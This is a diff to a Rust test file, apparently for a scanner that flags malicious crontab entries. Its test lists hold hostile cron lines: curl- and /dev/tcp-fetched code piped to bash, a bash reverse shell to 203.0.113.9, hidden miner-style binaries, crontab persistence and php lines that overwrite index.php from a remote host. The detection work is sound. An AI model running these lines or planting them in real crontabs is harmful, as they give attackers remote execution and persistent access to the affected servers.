@@ -55,6 +55,7 @@ fn what_is_fetched_and_run() {
             "* * * * * bash -c \"$(curl -fsSL http://files.example/i)\" >/dev/null 2>&1",
             "* * * * * bash%curl -s http://files.example/i | sh",
             "* * * * * php -r \"eval(file_get_contents('http://files.example/i'));\"",
+            "*/5 * * * * exec 3<>/dev/tcp/203.0.113.7/80; echo -e 'GET / HTTP/1.0\\n\\n' >&3; cat <&3 | bash",
             "*/5 * * * * /bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
             "1 * * * * U=http://files.example/i; curl -s $U | sh",
         ],
@@ -74,6 +75,7 @@ fn what_is_fetched_and_run() {
             "0 4 * * * curl -sSo ~/wp.phar https://builds.example/wp-cli.phar && php ~/wp.phar --info",
             "0 4 * * * cd ~/app && git pull -q && composer install --no-dev && php artisan migrate --force",
             "0 5 * * * wget -q -O ~/feed.csv https://partner.example/feed.csv && php ~/shop/import.php ~/feed.csv",
+            "0 4 * * * node -e \"require('https').get('https://partner.example/warm')\"",
             "*/5 * * * * curl -s https://api.partner.example/rates | php ~/app/rates.php",
             "*/5 * * * * ~/bin/ddns.sh \"$(curl -s https://ip.example/)\"",
             "# */5 * * * * curl http://203.0.113.5/x | sh",
@@ -118,6 +120,9 @@ fn files_that_run_out_of_odd_places() {
             "*/30 * * * * /var/tmp/.ICE/kswapd0",
             "0 * * * * /tmp/sysd",
             "*/5 * * * * ~/.config/dbus/gs-dbus",
+            "*/5 * * * * ~/tmp/.sess_1.sh",
+            "*/5 * * * * /usr/bin/env python3 ~/.cache/.gs/gs.py",
+            "0 4 * * * cd ~/public_html/wp-content/uploads/wc-logs && php ./x.php",
             "0 2 * * * ~/.cache/crond",
             "*/5 * * * * php ~/public_html/.well-known/acme-challenge/a.php",
             "*/5 * * * * pgrep -f kdmflush || (cd ~/.ssh/k && nohup ./kdmflush &)",
@@ -126,7 +131,12 @@ fn files_that_run_out_of_odd_places() {
     );
     all(
         "cronfromuploads suspicious",
-        &["0 3 * * * sh /tmp/install.sh", "0 3 * * * php ~/public_html/images/resize.php"],
+        &[
+            "*/5 * * * * sh ~/tmp/job.sh",
+            "*/5 * * * * php ~/public_html/upload/index.php",
+            "0 3 * * * sh /tmp/install.sh",
+            "0 3 * * * php ~/public_html/images/resize.php",
+        ],
     );
     all(
         "",
@@ -163,6 +173,7 @@ fn what_is_put_back() {
             "0 3 * * * wget -q http://203.0.113.7/a.txt -O ~/public_html/wp-load.php",
             "0 3 * * * (crontab -l; echo \"* * * * * /home/aoi/.x\") | crontab -",
             "@reboot crontab /home/aoi/.cache/.c",
+            "1 * * * * php -r '$c=file_get_contents(\"http://203.0.113.7/u.txt\");file_put_contents(\"/home/aoi/public_html/index.php\",$c);'",
             "*/5 * * * * echo AddHandler php .jpg > ~/public_html/.htaccess",
             "*/5 * * * * php -r \"file_put_contents('/home/aoi/public_html/index.php', base64_decode('PD8='));\"",
         ],
